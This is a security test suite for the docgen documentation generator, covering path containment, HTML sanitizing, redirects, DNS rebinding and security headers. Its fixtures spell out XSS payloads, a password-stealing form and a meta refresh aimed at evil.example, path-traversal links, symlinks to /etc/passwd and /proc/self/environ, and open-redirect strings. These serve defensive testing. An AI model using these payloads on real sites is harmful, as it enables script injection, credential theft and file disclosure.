// The security suite: what a site's content, its readers' requests and other sites' pages cannot
// make docgen do. Links and images publish only files of the site's folder, symbolic links
// followed (build, check and dev alike); redirects never leave the site (docgen serve, docgen dev, nginx with the
// nginx.conf the build wrote); docgen dev answers only its own host names; raw HTML can be
// sanitized or refused (markdown.rawHtml); every page carries the header policy in a <meta>; the
// servers send the same headers (HSTS from nginx.conf only).
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'node-html-parser';
import { makeProject } from '../helpers/fixture.ts';
import { repoRoot, runCli, startServe, withoutProgress } from '../helpers/cli.ts';
import { startDev, type Dev } from '../helpers/dev.ts';
import { startNginx, type RunningNginx } from '../helpers/nginx.ts';
import { isSameSiteLocation } from '../../src/shared/urls.ts';
import { metaPolicy } from '../../src/generator/emit/headers.ts';
import { rawRequest } from '../helpers/raw-request.ts';

const WAIT = { timeout: 10_000 };


/** Every file under a folder, with its bytes. */
function filesUnder(dir: string): { file: string; bytes: Buffer }[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => ({ file: path.join(e.parentPath, e.name), bytes: fs.readFileSync(path.join(e.parentPath, e.name)) }));
}

const config = (extra = '') => `export default {
  title: 'Security Fixture',
  url: 'https://docs.example.com',
  baseUrl: '/',
  navbar: { title: 'Fixture', items: [{ type: 'doc', docId: 'intro', label: 'Docs' }] },
  docs: { lastVersion: 'current' },
  ${extra}
};
`;

describe("links and images lead only to files of the site's folder", () => {
  // A folder of this machine outside the project, with files nobody meant to publish.
  const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'docgen-secret-'));
  const SECRET = 'TOP-SECRET-CONTENT';
  fs.writeFileSync(path.join(secretDir, 'secret.txt'), SECRET);
  fs.writeFileSync(path.join(secretDir, 'secret.png'), `${SECRET}-PNG`);
  let dir = '';
  // Lines of content/docs/leak.md that must each be an error.
  const LEAK_LINES = [5, 7, 9, 11, 13, 15, 17, 19, 21];
  beforeAll(() => {
    dir = makeProject({
      'config/site.config.ts': config(),
      'content/sidebars.ts': "export default { docs: ['intro', 'leak'] };\n",
      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nA [file](./files/ok.txt), a ![logo](/img/logo.svg) and [notes of the site](../../notes/site-notes.txt) stay fine.\n',
      'content/docs/files/ok.txt': 'a file of the docs',
      'notes/site-notes.txt': 'a file of the site, beside its content',
      'content/static/img/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
    });
    const docs = path.join(dir, 'content/docs');
    const climb = path.relative(docs, path.join(secretDir, 'secret.txt')).split(path.sep).join('/');
    const climbPng = path.relative(docs, path.join(secretDir, 'secret.png')).split(path.sep).join('/');
    // From the static folder to the file system's root and back down: a '/'-rooted path that climbs.
    const rooted = `/${'../'.repeat(30)}${secretDir.slice(1)}`;
    fs.symlinkSync(path.join(secretDir, 'secret.txt'), path.join(docs, 'link.txt'));
    fs.symlinkSync(secretDir, path.join(docs, 'elsewhere'), 'dir');
    fs.writeFileSync(
      path.join(docs, 'leak.md'),
      [
        '---',
        'title: Leak',
        '---',
        '',
        `[climbing](${climb})`,
        '',
        `![climbing image](${climbPng})`,
        '',
        `[encoded](${climb.replace(/\.\./g, '%2e%2e')})`,
        '',
        '[a symlink to a file outside](./link.txt)',
        '',
        '[a symlink to a folder outside](./elsewhere/secret.txt)',
        '',
        `[rooted](${rooted}/secret.txt)`,
        '',
        `![rooted image](${rooted}/secret.png)`,
        '',
        `[an absolute path](${secretDir}/secret.txt)`,
        '',
        `![an absolute path](${secretDir}/secret.png)`,
        '',
      ].join('\n'),
    );
  });
  afterAll(() => {
    fs.rmSync(dir, { recursive: true, force: true });
    fs.rmSync(secretDir, { recursive: true, force: true });
  });

  const expectErrors = (output: string) => {
    for (const line of LEAK_LINES) expect(output, `line ${line}`).toMatch(new RegExp(`content/docs/leak\\.md:${line}  link to a file outside the site's folder: links and images may point to files inside the site's folder only`));
    expect(output).toContain("links and images may point to files inside the site's folder only (./)");
    expect(output).not.toContain('intro.md');
  };

  it('docgen build fails with file:line errors and publishes none of those files', async () => {
    const r = await runCli(['--root', dir, 'build']);
    expect(r.code).not.toBe(0);
    expectErrors(r.stdout + r.stderr);
    for (const { file, bytes } of filesUnder(path.join(dir, 'build'))) expect(bytes.toString('latin1'), file).not.toContain(SECRET);
  });

  it('docgen check reports the same errors', async () => {
    const r = await runCli(['--root', dir, 'check']);
    expect(r.code).not.toBe(0);
    expectErrors(r.stdout + r.stderr);
  });

  it('docgen dev shows them in the page overlay and serves none of those files', async () => {
    const dev = await startDev(dir);
    try {
      const page = await rawRequest(dev.origin, '/docs/leak');
      expect(page.body).toContain('id="docgen-overlay"');
      for (const line of LEAK_LINES) expect(page.body).toContain(`content/docs/leak.md:${line}`);
      expect(page.body).toContain('folder only (./)');
      expect(page.body).not.toMatch(/assets\/(files|images)\/secret/);
      // Where a copy would have been served.
      const digest = crypto.createHash('sha256').update(SECRET).digest('hex').slice(0, 10);
      const copy = await rawRequest(dev.origin, `/assets/files/secret-${digest}.txt`);
      expect(copy.body).not.toContain(SECRET);
      await expect.poll(() => dev.output(), WAIT).toContain('content/docs/leak.md:5');
      // The page without those links is fine.
      const intro = await rawRequest(dev.origin, '/docs/intro');
      expect(intro.body).not.toContain('docgen-overlay');
      expect(intro.body).toMatch(/href="\/assets\/files\/ok-[0-9a-f]{10}\.txt"/);
      // (A file of the site outside its content folders, as Docusaurus takes it.)
      expect(intro.body).toMatch(/href="\/assets\/files\/site-notes-[0-9a-f]{10}\.txt"/);
    } finally {
      dev.child.kill();
    }
  });
});

/** A hostile page: every way raw HTML could run script, load another page or dress up as the site. */
const HOSTILE = `---
title: Hostile
---

Some text with <b onclick="alert('b')">bold</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, line<br>break and <a href="javascript:alert('a')">a link</a>.

<script>alert('script')</script>

<img src="/img/logo.svg" alt="The logo" onerror="alert('img')">

<details>
<summary>More</summary>

Hidden **text**.

</details>

<iframe src="https://evil.example/frame"></iframe>

<object data="https://evil.example/x.swf"></object>

<embed src="https://evil.example/x.swf">

<style>body { display: none }</style>

<div style="position:fixed;inset:0" onmouseover="alert('div')">covering div</div>

<svg onload="alert('svg')"><script>alert('svg script')</script></svg>

<a href="JaVaScRiPt:alert('mixed')">mixed case</a> <a href="java&#x09;script:alert('tab')">tab</a> <a href="https://example.com/" id="kept-anchor">a good link</a>

<form action="https://evil.example/steal"><input name="password"></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<math><mi xlink:href="data:x,<script>alert('math')</script>">m</mi></math>

A [link to the intro](./intro.md) and code:

\`\`\`js
const answer = 42;
\`\`\`
`;

/** The content of a built page (its route data's HTML). */
const builtContent = (dir: string, page: string) => (JSON.parse(fs.readFileSync(path.join(dir, 'build/_data', `${page}.json`), 'utf8')) as { page: { doc: { html: string } } }).page.doc.html;

const expectSanitized = (html: string) => {
  for (const bad of [/<script/i, /\son[a-z]+=/i, /javascript:/i, /<iframe/i, /<object/i, /<embed/i, /<style/i, /style=/i, /<svg/i, /<math/i, /<form/i, /<input/i, /<meta/i, /<base/i, /alert\(/, /evil\.example/]) expect(html).not.toMatch(bad);
  // Harmless HTML is kept, as are the Markdown's own links and highlighted code.
  expect(html).toContain('<b>bold</b>');
  expect(html).toContain('<kbd>Ctrl</kbd>+<kbd>C</kbd>');
  expect(html).toContain('line<br>break');
  expect(html).toMatch(/<img src="\/img\/logo\.svg" alt="The logo"[^>]*>/);
  expect(html).toMatch(/<details>\s*<summary>More<\/summary>\s*<p>Hidden <strong>text<\/strong>\.<\/p>\s*<\/details>/);
  expect(html).toContain('<a href="https://example.com/" id="kept-anchor"');
  expect(html).toContain('<a href="/docs/intro">link to the intro</a>');
  expect(html).toMatch(/<pre[^>]*><code[^>]*>.*answer.*42/s);
  expect(html).toContain('covering div');
};

describe('data files a page reads lie inside the project', () => {
  it("a directive's data file or an MDX page's JSON import from elsewhere on the machine is an error, and none of it is published", async () => {
    const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'docgen-secret-data-'));
    const NAME = 'Secret Person';
    fs.writeFileSync(path.join(secretDir, 'people.json'), JSON.stringify({ people: [{ name: NAME, location: 'Nowhere', languages: 'None', links: [] }] }));
    const dir = makeProject({
      'config/site.config.ts': config(),
      'content/sidebars.ts': "export default { docs: ['intro', 'team'] };\n",
      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nHello.\n',
    });
    const climb = path.relative(path.join(dir, 'content/docs'), path.join(secretDir, 'people.json')).split(path.sep).join('/');
    fs.writeFileSync(path.join(dir, 'content/docs/team.mdx'), `---\ntitle: Team\n---\nimport people from '${climb}';\n\n::people{data="${climb}"}\n\nFirst: {people.people?.[0]?.name}\n`);
    try {
      const r = await runCli(['--root', dir, 'build'], { timeoutMs: 60_000 });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`content/docs/team.mdx:4:1  cannot import "${climb}": it is outside the project; a data file must be inside the project's folder`);
      expect(r.stderr).toContain(`::people: ${climb} is outside the project; a data file must be inside the project's folder`);
      expect(r.stdout + r.stderr).not.toContain(NAME);
      expect(filesUnder(path.join(dir, 'build')).some((f) => f.bytes.includes(NAME))).toBe(false);
    } finally {
      fs.rmSync(secretDir, { recursive: true, force: true });
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('content files are read only when their real path lies inside the project', () => {
  // Files of this machine outside the project that a symbolic link in the content could lead to.
  const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'docgen-secret-content-'));
  const SECRET = 'SECRET-CONTENT-OUTSIDE-e41b';
  const ENV_SECRET = 'SECRET-OF-THE-ENVIRONMENT-5d0c';
  const environ = fs.existsSync('/proc/self/environ');
  const passwd = fs.existsSync('/etc/passwd') ? fs.readFileSync('/etc/passwd', 'utf8').split('\n')[0] : '';
  fs.writeFileSync(path.join(secretDir, 'page.md'), `---\ntitle: ${SECRET}\n---\n\n${SECRET} in a page.\n`);
  fs.writeFileSync(path.join(secretDir, 'partial.md'), `${SECRET} in a partial.\n`);
  fs.writeFileSync(path.join(secretDir, '_category_.json'), JSON.stringify({ label: SECRET, link: { type: 'generated-index', description: SECRET } }));
  fs.writeFileSync(path.join(secretDir, 'sidebars.json'), JSON.stringify({ docs: ['intro', { type: 'link', label: SECRET, href: 'https://example.com/' }] }));
  fs.mkdirSync(path.join(secretDir, 'folder'));
  fs.writeFileSync(path.join(secretDir, 'folder/inner.md'), `---\ntitle: ${SECRET}\n---\n\n${SECRET}.\n`);
  let dir = '';
  beforeAll(() => {
    dir = makeProject({
      'config/site.config.ts': config(),
      'content/sidebars.ts': "export default { docs: ['intro', 'inside', { type: 'autogenerated', dirName: 'group' }] };\n",
      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nHello.\n',
      'content/docs/group/cat/page.md': '---\ntitle: Category page\n---\n\nIn a category.\n',
      'content/docs/partials.mdx': "---\ntitle: Partials\n---\n\nimport Secret from './_secret.md';\n\n<Secret />\n",
      'shared/inside.md': '---\ntitle: Inside\n---\n\nA page kept elsewhere in the project.\n',
    });
    const docs = path.join(dir, 'content/docs');
    fs.symlinkSync(path.join(secretDir, 'page.md'), path.join(docs, 'secret.md'));
    if (environ) fs.symlinkSync('/proc/self/environ', path.join(docs, 'env.md'));
    if (passwd) fs.symlinkSync('/etc/passwd', path.join(docs, 'passwd.md'));
    fs.symlinkSync(path.join(secretDir, 'folder'), path.join(docs, 'elsewhere'), 'dir');
    fs.symlinkSync(path.join(secretDir, '_category_.json'), path.join(docs, 'group/cat/_category_.json'));
    fs.symlinkSync(path.join(secretDir, 'partial.md'), path.join(docs, '_secret.md'));
    // A link to a file inside the project is fine.
    fs.symlinkSync('../../shared/inside.md', path.join(docs, 'inside.md'));
  });
  afterAll(() => {
    fs.rmSync(dir, { recursive: true, force: true });
    fs.rmSync(secretDir, { recursive: true, force: true });
  });
  const env = { DOCGEN_TEST_TOKEN: ENV_SECRET };
  const OUTSIDE = "leads outside the project; content is read only from files inside the project's folder (and the content folders its config names)";

  const expectErrors = (out: string) => {
    expect(out).toMatch(new RegExp(`^content/docs/secret\\.md {2}cannot read file: its symbolic link \\(→ ${secretDir.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}/page\\.md\\) ${OUTSIDE.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`, 'm'));
    if (environ) expect(out).toMatch(/^content\/docs\/env\.md {2}cannot read file: its symbolic link \(→ \/proc\/self\/environ\) leads outside the project/m);
    if (passwd) expect(out).toMatch(/^content\/docs\/passwd\.md {2}cannot read file: its symbolic link \(→ \/etc\/passwd\) leads outside the project/m);
    expect(out).toMatch(/^content\/docs\/group\/cat\/_category_\.json {2}cannot read file: its real path .* lies outside the project; content is read only from files inside the project's folder \(and the content folders its config names\)$/m);
    for (const secret of [SECRET, ENV_SECRET, ...(passwd ? [passwd] : [])]) expect(out).not.toContain(secret);
  };
  const expectNothingPublished = () => {
    for (const { file, bytes } of filesUnder(path.join(dir, 'build'))) {
      for (const secret of [SECRET, ENV_SECRET, ...(passwd ? [passwd] : [])]) expect(bytes.toString('latin1'), file).not.toContain(secret);
    }
  };

  it('docgen build fails naming each file, and publishes nothing of them', async () => {
    const r = await runCli(['--root', dir, 'build'], { env });
    expect(r.code).toBe(1);
    expectErrors(r.stdout + r.stderr);
    expectNothingPublished();
  });

  it('docgen check reports the same errors', async () => {
    const r = await runCli(['--root', dir, 'check'], { env });
    expect(r.code).toBe(1);
    expectErrors(r.stdout + r.stderr);
  });

  it('docgen dev shows them and serves nothing of those files', async () => {
    const dev = await startDev(dir);
    try {
      const page = await rawRequest(dev.origin, '/docs/intro');
      expect(page.body).toContain('content/docs/secret.md');
      for (const url of ['/docs/secret', '/docs/env', '/docs/passwd', '/docs/elsewhere/inner', '/docs/partials', '/docs/category/secret-content-outside-e41b', '/_data/docs/secret.json']) {
        const r = await rawRequest(dev.origin, url);
        for (const secret of [SECRET, ...(passwd ? [passwd] : [])]) expect(r.body, url).not.toContain(secret);
      }
      await expect.poll(() => dev.output(), WAIT).toContain('content/docs/secret.md');
      expect(dev.output()).not.toContain(SECRET);
    } finally {
      dev.child.kill();
    }
  });

  it('without those, a partial from outside the project is an error at its import', async () => {
    for (const f of ['secret.md', 'env.md', 'passwd.md', 'group/cat/_category_.json']) fs.rmSync(path.join(dir, 'content/docs', f), { force: true });
    const r = await runCli(['--root', dir, 'build'], { env });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^content\/docs\/partials\.mdx:7:1 {2}cannot import the partial "\.\/_secret\.md": it lies outside the project; content is read only from files inside the project's folder \(and the content folders its config names\)$/m);
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expectNothingPublished();
  });

  it('without the partial the site builds: a link to a file inside the project is followed, a folder link outside is not', async () => {
    for (const f of ['_secret.md', 'partials.mdx']) fs.rmSync(path.join(dir, 'content/docs', f), { force: true });
    const r = await runCli(['--root', dir, 'build'], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/^content\/docs\/elsewhere {2}warning: symbolic link to a folder outside the project \(→ .*\) is not followed; content is read only from files inside the project's folder \(and the content folders its config names\)$/m);
    expect(fs.existsSync(path.join(dir, 'build/docs/elsewhere'))).toBe(false);
    expect(fs.readFileSync(path.join(dir, 'build/docs/inside.html'), 'utf8')).toContain('A page kept elsewhere in the project.');
    expectNothingPublished();
  });

  it('docgen version copies no file from outside the project into a version', async () => {
    const other = makeProject({ 'config/site.config.ts': config(), 'content/sidebars.ts': "export default { docs: ['intro'] };\n", 'content/docs/intro.md': '---\ntitle: Intro\n---\n\nHello.\n' });
    try {
      fs.symlinkSync(path.join(secretDir, 'page.md'), path.join(other, 'content/docs/secret.md'));
      const r = await runCli(['--root', other, 'version', '2.0']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/^content\/docs\/secret\.md {2}a symbolic link to a file outside the project \(→ .*\): a version holds copies of the docs, and content is read only from files inside the project's folder \(and the content folders its config names\); remove the link$/m);
      expect(fs.existsSync(path.join(other, 'content/versioned_docs'))).toBe(false);
    } finally {
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  it('a sidebars file that is a symbolic link to a file outside the project is an error', async () => {
    const other = makeProject({ 'config/site.config.ts': config(), 'content/docs/intro.md': '---\ntitle: Intro\n---\n\nHello.\n' });
    try {
      fs.symlinkSync(path.join(secretDir, 'sidebars.json'), path.join(other, 'content/sidebars.json'));
      const r = await runCli(['--root', other, 'build']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/^content\/sidebars\.json {2}cannot read file: its real path .* lies outside the project; content is read only from files inside the project's folder \(and the content folders its config names\)$/m);
      expect(r.stdout + r.stderr).not.toContain(SECRET);
      expectNothingPublished();
    } finally {
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  it("a docs folder the config names beside the site's folder (`path: '../docs'`) is read; a link in it to a file elsewhere is not", async () => {
    // (A Docusaurus site in website/ with its docs in ../docs: the project's area is their common folder.)
    const repo = makeProject({
      'website/docusaurus.config.js': "module.exports = { title: 'Beside', url: 'https://example.com', baseUrl: '/', presets: [['classic', { docs: { path: '../docs', sidebarPath: false }, blog: false }]] };\n",
      'docs/intro.md': '---\ntitle: Intro\n---\n\nThe docs live beside the site.\n',
    });
    try {
      const site = path.join(repo, 'website');
      const ok = await runCli(['--root', site, 'build']);
      expect(ok.code, ok.stderr).toBe(0);
      expect(fs.readFileSync(path.join(site, 'build/docs/intro.html'), 'utf8')).toContain('The docs live beside the site.');
      fs.symlinkSync(path.join(secretDir, 'page.md'), path.join(repo, 'docs/leak.md'));
      const r = await runCli(['--root', site, 'build']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/^\.\.\/docs\/leak\.md {2}cannot read file: its symbolic link \(→ .*\) leads outside the project/m);
      expect(r.stdout + r.stderr).not.toContain(SECRET);
    } finally {
      fs.rmSync(repo, { recursive: true, force: true });
    }
  });
});

describe('markdown.rawHtml', () => {
  const dirs: string[] = [];
  afterAll(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
  const project = (extra: string, pages: Record<string, string>, linkModules = false) => {
    const dir = makeProject({
      'config/site.config.ts': (linkModules ? "import remarkMath from 'remark-math';\n" : '') + config(extra),
      'content/sidebars.ts': `export default { docs: ${JSON.stringify(['intro', ...Object.keys(pages)])} };\n`,
      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nWelcome.\n',
      'content/static/img/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
      ...Object.fromEntries(Object.entries(pages).map(([name, text]) => [`content/docs/${name}.md`, text])),
    });
    if (linkModules) fs.symlinkSync(path.join(repoRoot, 'node_modules'), path.join(dir, 'node_modules'), 'dir');
    dirs.push(dir);
    return dir;
  };

  it("'sanitize' keeps harmless HTML and drops scripts, handlers, javascript: URLs, frames, objects, styles and SVG (Markdown read by markdown-it)", async () => {
    const dir = project("markdown: { format: 'detect', rawHtml: 'sanitize' },", { hostile: HOSTILE });
    const r = await runCli(['--root', dir, 'build']);
    expect(withoutProgress(r.stderr)).toBe('');
    expect(r.code).toBe(0);
    expectSanitized(builtContent(dir, 'docs/hostile'));
    // The whole page: no script but the site's own (the head script and the client's modules).
    const page = fs.readFileSync(path.join(dir, 'build/docs/hostile.html'), 'utf8');
    expect(page).not.toMatch(/alert\(|evil\.example|javascript:/);
    // Its Markdown copy (and llms-full.txt, made of the copies) under the same policy.
    for (const file of ['build/docs/hostile.md', 'build/llms-full.txt']) {
      const text = fs.readFileSync(path.join(dir, file), 'utf8');
      expect(text, file).not.toMatch(/alert\(|evil\.example|javascript:|<script|<iframe|<object|<embed|<style|<svg|<math|<form|<meta|<base|\son[a-z]+=|style=/i);
      expect(text, file).toContain('Some text with <b>bold</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, line<br>break');
      expect(text, file).toContain('<a href="https://example.com/" id="kept-anchor">a good link</a>');
    }
  });

  it("'sanitize' does the same when the site's remark plugins have Markdown read by micromark", async () => {
    const dir = project("markdown: { format: 'md', rawHtml: 'sanitize', remarkPlugins: [remarkMath] },", { hostile: `${HOSTILE}\nMath: $x^2$\n` }, true);
    const r = await runCli(['--root', dir, 'build']);
    expect(withoutProgress(r.stderr)).toBe('');
    expect(r.code).toBe(0);
    const html = builtContent(dir, 'docs/hostile');
    expect(html).toContain('math-inline');
    expectSanitized(html);
  });

  // A heading with raw HTML in it: the page's title (a leading "# …"), and a heading of the table of contents.
  const HEADINGS = '---\ndescription: Headings.\n---\n\n# Top <img src="x" onerror="alert(1)">\n\n## Hi <img src="x" onerror="alert(2)"> <meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nText <b onclick="alert(3)">bold</b>.\n';

  it("'sanitize' holds for everything made of a heading: table of contents, page data, title, sidebar, search, Markdown copies, llms files", async () => {
    const dir = project("markdown: { format: 'detect', rawHtml: 'sanitize' },", { headings: HEADINGS });
    const r = await runCli(['--root', dir, 'build']);
    expect(withoutProgress(r.stderr)).toBe('');
    expect(r.code).toBe(0);
    const files = filesUnder(path.join(dir, 'build')).filter((f) => !f.file.includes(`${path.sep}assets${path.sep}entry-`) && !f.file.endsWith('.js'));
    expect(files.map((f) => path.relative(dir, f.file))).toEqual(expect.arrayContaining(['build/llms.txt', 'build/llms-full.txt', 'build/docs/headings.md', 'build/docs/headings.html', 'build/_data/docs/headings.json']));
    for (const { file, bytes } of files) {
      const text = bytes.toString('utf8');
      for (const bad of [/onerror/i, /onclick/i, /alert\(/, /refresh/i, /evil\.example/, /<meta http-equiv="refresh/i]) expect(text, path.relative(dir, file)).not.toMatch(bad);
    }
    // The heading and its harmless HTML are still there.
    const data = JSON.parse(fs.readFileSync(path.join(dir, 'build/_data/docs/headings.json'), 'utf8')) as { title: string; page: { doc: { toc: { html: string; text: string }[] } } };
    expect(data.page.doc.toc.map((t) => t.html)).toEqual([expect.stringMatching(/^Hi <img src="x">\s*$/)]);
    expect(data.title).toMatch(/^Top/);
    const page = fs.readFileSync(path.join(dir, 'build/docs/headings.html'), 'utf8');
    expect(page).toMatch(/class="toc-link">Hi <img src="x">/);
    expect(fs.readFileSync(path.join(dir, 'build/docs/headings.md'), 'utf8')).toContain('Text <b>bold</b>.');
  });

  it("'error' makes raw HTML in a heading an error, the page's title included", async () => {
    const dir = project("markdown: { format: 'detect', rawHtml: 'error' },", { headings: HEADINGS });
    const r = await runCli(['--root', dir, 'check']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^content\/docs\/headings\.md:5 {2}raw HTML "<img src="x" onerror="alert\(1\)">" is not accepted \(markdown\.rawHtml is 'error'\)/m);
    // (A title is known when the site loads, before any page renders: the body's come next.)
    fs.writeFileSync(path.join(dir, 'content/docs/headings.md'), HEADINGS.replace('# Top <img src="x" onerror="alert(1)">', '# Top'));
    const again = await runCli(['--root', dir, 'build']);
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/^content\/docs\/headings\.md:7 {2}raw HTML "<img src="x" onerror="alert\(2\)">" is not accepted/m);
    expect(again.stderr).toMatch(/^content\/docs\/headings\.md:7 {2}raw HTML "<meta http-equiv="refresh" content="0;ur…" is not accepted/m);
    expect(fs.existsSync(path.join(dir, 'build'))).toBe(false);
  });

  it("'allow' (the default) keeps raw HTML as written", async () => {
    const dir = project("markdown: { format: 'detect', rawHtml: 'allow' },", { hostile: HOSTILE });
    expect((await runCli(['--root', dir, 'build'])).code).toBe(0);
    expect(builtContent(dir, 'docs/hostile')).toContain("<script>alert('script')</script>");
  });

  it("'error' makes raw HTML a file:line error saying what is accepted (comments are left out quietly)", async () => {
    const dir = project("markdown: { format: 'detect', rawHtml: 'error' },", {
      html: '---\ntitle: HTML\n---\n\n<!-- a comment is fine -->\n\nText with <b>bold</b>.\n\n<div>\nA block.\n</div>\n',
    });
    const r = await runCli(['--root', dir, 'check']);
    expect(r.code).not.toBe(0);
    const out = r.stdout + r.stderr;
    expect(out).toMatch(/content\/docs\/html\.md:7 {2}raw HTML "<b>" is not accepted \(markdown\.rawHtml is 'error'\): write Markdown instead, or set markdown\.rawHtml to 'sanitize'/);
    expect(out).toMatch(/content\/docs\/html\.md:7 {2}raw HTML "<\/b>"/);
    expect(out).toMatch(/content\/docs\/html\.md:9 {2}raw HTML "<div> A block\. <\/div>"/);
    expect(out).not.toContain('comment');
  });
});

describe('a site at the root: its servers and pages', () => {
  let dir = '';
  let serve: { origin: string; stop: () => void };
  let nginx: RunningNginx;
  let dev: Dev;
  beforeAll(async () => {
    dir = makeProject({
      'config/site.config.ts': config(),
      'content/sidebars.ts': "export default { docs: ['intro', 'guide'] };\n",
      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nWelcome. See [the guide](./guide.md).\n',
      'content/docs/guide.md': '---\ntitle: Guide\n---\n\nText.\n',
    });
    const r = await runCli(['--root', dir, 'build']);
    if (r.code !== 0) throw new Error(r.stderr);
    [serve, nginx, dev] = await Promise.all([startServe(['--dir', 'build'], { cwd: dir }), startNginx(path.join(dir, 'build')), startDev(dir)]);
  });
  afterAll(async () => {
    serve?.stop();
    await nginx?.stop();
    dev?.child.kill();
    fs.rmSync(dir, { recursive: true, force: true });
  });
  const servers = () => ({ 'docgen serve': serve.origin, 'docgen dev': dev.origin, nginx: nginx.origin });
  const nginxConf = () => fs.readFileSync(path.join(dir, 'build/nginx.conf'), 'utf8');
  const headerOf = (name: string) => new RegExp(`add_header ${name} "([^"]+)" always;`).exec(nginxConf())?.[1];

  it('redirects only to paths of the same site: never to //host or /\\host, however the request spells it', async () => {
    const attempts = ['//evil.example/', '//evil.example', '/\\evil.example/', '/\\/evil.example/', '/%2F%2Fevil.example/', '/%2F/evil.example/', '/%5Cevil.example/', '/%5C%5Cevil.example/', '//evil.example/index.html', '//evil.example.html', '/%2F%2Fevil.example.html', '/%2F%2Fevil.example/index.html', '///evil.example/', '/%09/evil.example/'];
    for (const [name, origin] of Object.entries(servers())) {
      for (const attempt of attempts) {
        const r = await rawRequest(origin, attempt);
        const where = `${name} ${attempt} → ${r.status} ${r.headers.location ?? ''}`;
        if (r.headers.location !== undefined) expect(isSameSiteLocation(r.headers.location), where).toBe(true);
        expect(r.headers.location ?? '', where).not.toMatch(/^\/[\\/]|^[a-z]+:/i);
      }
      // The site's own redirects still work.
      const clean = await rawRequest(origin, '/docs/guide/');
      expect([clean.status, clean.headers.location], name).toEqual([301, '/docs/guide']);
    }
  });

  it('docgen dev answers only requests for localhost, IP addresses and its --host name (DNS rebinding)', async () => {
    const port = new URL(dev.origin).port;
    for (const host of ['evil.example', `evil.example:${port}`, 'localhost.evil.example', `127.0.0.1.nip.io:${port}`, 'docs.example.com']) {
      for (const url of ['/docs/intro', '/__docgen/client.js', '/_data/docs/intro.json']) {
        const r = await rawRequest(dev.origin, url, host);
        expect(r.status, `${host} ${url}`).toBe(403);
        expect(r.headers['content-type'], host).toContain('text/plain');
        expect(r.body, host).toMatch(/^docgen dev answers requests for localhost/);
      }
    }
    for (const host of [`localhost:${port}`, `LOCALHOST:${port}`, `docs.localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, '192.168.1.20', 'localhost.']) {
      const r = await rawRequest(dev.origin, '/docs/intro', host);
      expect(r.status, host).toBe(200);
    }
  });

  it('every page carries the header policy in a <meta> ahead of every script and style, less what a meta cannot have', async () => {
    const policy = headerOf('Content-Security-Policy')!;
    expect(policy).toContain("frame-ancestors 'self'");
    const expected = metaPolicy(policy);
    expect(expected).toBe(
      policy
        .split('; ')
        .filter((d) => !d.startsWith('frame-ancestors'))
        .join('; '),
    );
    const pages = filesUnder(path.join(dir, 'build')).filter((f) => f.file.endsWith('.html'));
    expect(pages.length).toBeGreaterThanOrEqual(4);
    for (const { file, bytes } of pages) {
      const head = parse(bytes.toString('utf8')).querySelector('head')!;
      const metas = head.querySelectorAll('meta[http-equiv="Content-Security-Policy"]');
      expect(metas.map((m) => m.getAttribute('content')), file).toEqual([expected]);
      const children = head.childNodes.filter((n) => 'tagName' in n) as unknown as { tagName: string; getAttribute(n: string): string | undefined }[];
      const at = children.findIndex((n) => n.getAttribute('http-equiv') === 'Content-Security-Policy');
      const governed = children.findIndex((n) => n.tagName === 'SCRIPT' || n.tagName === 'STYLE' || (n.tagName === 'LINK' && n.getAttribute('rel') === 'stylesheet'));
      expect(at, file).toBeGreaterThan(-1);
      expect(at, file).toBeLessThan(governed);
    }
    // docgen dev's pages carry it too, and its header is the production one.
    const devPage = await rawRequest(dev.origin, '/docs/intro');
    expect(devPage.headers['content-security-policy']).toBe(policy);
    expect(parse(devPage.body).querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toBe(expected);
  });

  it('sends Permissions-Policy from every server and Strict-Transport-Security from nginx.conf only', async () => {
    const permissions = headerOf('Permissions-Policy');
    expect(permissions).toMatch(/camera=\(\).*microphone=\(\).*geolocation=\(\)/);
    expect(headerOf('Strict-Transport-Security')).toMatch(/^max-age=\d{7,}/);
    for (const [name, origin] of Object.entries(servers())) {
      for (const url of ['/docs/intro', '/no-such-page']) {
        const r = await rawRequest(origin, url);
        expect(r.headers['permissions-policy'], `${name} ${url}`).toBe(permissions);
        expect(r.headers['content-security-policy'], `${name} ${url}`).toBe(headerOf('Content-Security-Policy'));
        if (name === 'nginx') expect(r.headers['strict-transport-security'], url).toBe(headerOf('Strict-Transport-Security'));
        else expect(r.headers['strict-transport-security'], `${name} ${url}`).toBeUndefined();
      }
    }
  });
});
